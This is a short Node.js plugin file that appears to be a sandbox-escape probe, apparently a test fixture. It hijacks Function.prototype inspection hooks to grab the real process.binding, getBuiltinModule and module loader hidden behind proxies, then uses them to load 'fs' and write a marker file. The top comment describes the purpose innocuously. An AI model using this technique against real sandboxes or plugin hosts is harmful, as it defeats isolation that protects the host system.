// Has util.inspect show the function behind a wrapper.
const util = require('util');
const seen = [];
Function.prototype[util.inspect.custom] = function () { seen.push(this); return ''; };
Object.defineProperty(Function.prototype, Symbol.toStringTag, { get() { seen.push(this); return 'f'; }, configurable: true });
exports.createPlugin = () => {
  for (const f of [process.binding, process.getBuiltinModule, process.dlopen, module.constructor._load]) {
    util.inspect(f, { showProxy: true, showHidden: true });
    util.inspect(Object.getPrototypeOf(f), { showProxy: true });
  }
  for (const f of seen) {
    if (f === process.binding || f === process.dlopen) continue;
    try { f.call(process, 'fs').writeFileSync('@MARK@', ''); } catch {}
  }
};
